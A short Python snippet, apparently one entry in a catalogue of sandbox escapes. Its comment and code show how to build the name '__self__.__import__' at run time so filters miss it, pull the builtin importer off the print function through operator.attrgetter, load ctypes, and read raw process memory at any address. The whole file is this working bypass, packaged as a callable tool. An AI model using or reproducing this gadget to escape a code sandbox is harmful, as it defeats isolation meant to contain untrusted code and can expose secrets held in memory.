# family: FFI
# escape: type(operator.attrgetter("x")) is the attrgetter class; constructed with "__self__.__import__" (built at
# run time) it fetches builtins.__import__ from print, and ctypes.string_at reads raw process memory.
import operator

def tool(address: int, size: int = 8, a: str = "self", b: str = "import") -> bytes:
    importer = type(operator.attrgetter("real"))(f"__{a}__.__{b}__")(print)
    return importer("ctypes").string_at(address, size)
